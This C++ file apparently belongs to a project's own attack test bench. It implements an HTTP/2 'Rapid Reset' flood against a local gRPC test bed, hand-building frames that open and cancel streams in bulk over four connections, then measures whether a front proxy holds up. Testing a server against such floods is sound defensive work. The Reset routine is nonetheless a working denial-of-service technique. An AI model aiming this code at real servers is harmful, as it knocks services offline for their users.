// SPDX-FileCopyrightText: PlumeScout contributors
// SPDX-License-Identifier: Apache-2.0
#include <atomic>
#include <cstdint>
#include <string>
#include <thread>

#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "core/types/status_macros.h"
#include "lab/bench/attacks/attack_bed.h"
#include "lab/bench/attacks/raw_connection.h"

namespace plumescout::lab {
namespace {

constexpr int kConnections = 4;
constexpr int kPairsPerWrite = 200;
constexpr char kPreface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
constexpr absl::Duration kBeforeReturning = absl::Milliseconds(10);

enum FrameType : std::uint8_t { kHeaders = 1, kResetStream = 3, kSettings = 4 };

std::string Bytes(std::initializer_list<int> values) {
  std::string bytes;
  for (const int value : values) bytes.push_back(static_cast<char>(value));
  return bytes;
}

// RFC 9113, section 4.1.
std::string Frame(FrameType type, int flags, std::uint32_t stream, const std::string& payload) {
  const auto size = static_cast<std::uint32_t>(payload.size());
  const auto byte = [](std::uint32_t value, int shift) {
    return static_cast<int>((value >> shift) & 0xFFu);
  };
  return absl::StrCat(Bytes({byte(size, 16), byte(size, 8), byte(size, 0), type, flags,
                             byte(stream, 24), byte(stream, 16), byte(stream, 8), byte(stream, 0)}),
                      payload);
}

// A call as HPACK (RFC 7541) has it, nothing indexed but by the static table.
std::string CallHeaders() {
  const auto text = [](const std::string& value) {
    return absl::StrCat(Bytes({static_cast<int>(value.size())}), value);
  };
  constexpr int kPost = 0x83;
  constexpr int kHttp = 0x86;
  constexpr int kPath = 0x04;
  constexpr int kAuthority = 0x01;
  return absl::StrCat(Bytes({kPost, kHttp, kPath}),
                      text("/plumescout.v1.MissionService/ListMissions"), Bytes({kAuthority}),
                      text("localhost"), Bytes({0x0F, 0x10}), text("application/grpc"),
                      Bytes({0x00}), text("te"), text("trailers"));
}

// Opens streams and resets them at once, over one connection after another.
void Reset(const std::string& target, const std::atomic<bool>& stopping,
           std::atomic<std::int64_t>& resets) {
  constexpr int kEndHeaders = 0x4;
  constexpr std::uint32_t kLastStream = 0x7FFF'0000u;
  const std::string headers = CallHeaders();
  const std::string cancel = Bytes({0, 0, 0, 8});
  while (!stopping) {
    const auto connection = RawConnection::Open(target);
    absl::Status status = connection.status();
    if (status.ok()) {
      status = (*connection)->Send(absl::StrCat(kPreface, Frame(kSettings, 0, 0, "")));
    }
    for (std::uint32_t stream = 1; !stopping && status.ok() && stream < kLastStream;) {
      std::string frames;
      for (int pair = 0; pair < kPairsPerWrite; ++pair, stream += 2) {
        absl::StrAppend(&frames, Frame(kHeaders, kEndHeaders, stream, headers),
                        Frame(kResetStream, 0, stream, cancel));
      }
      status = (*connection)->Send(frames);
      if (status.ok()) resets += kPairsPerWrite;
    }
    absl::SleepFor(kBeforeReturning);
  }
}

absl::StatusOr<std::vector<Bar>> Run(const AttackSettings& settings) {
  PLUMESCOUT_ASSIGN_OR_RETURN(const auto bed, AttackBed::Start(settings, {.behind_front = true}));
  std::atomic<bool> stopping = false;
  std::atomic<std::int64_t> resets = 0;
  std::vector<std::thread> threads;
  for (int i = 0; i < kConnections; ++i) {
    threads.emplace_back([&] { Reset(bed->target(), stopping, resets); });
  }
  absl::SleepFor(settings.time);
  const HonestFigures during = bed->Take();
  stopping = true;
  for (std::thread& thread : threads) thread.join();
  std::vector<Bar> bars = bed->Judge(during);
  bars.push_back({"resets sent", static_cast<double>(resets.load())});
  if (settings.front_config.empty()) {
    // The front stops it; a server alone is for networks that one trusts.
    for (Bar& bar : bars) bar.limit.reset();
  }
  return bars;
}

}  // namespace

Attack RapidResetAttack() {
  return {"rapid_reset", "streams opened and reset as fast as can be, over four connections",
          "one honest call in 15 s, 1.6 to 2.8 GB", &Run};
}

}  // namespace plumescout::lab
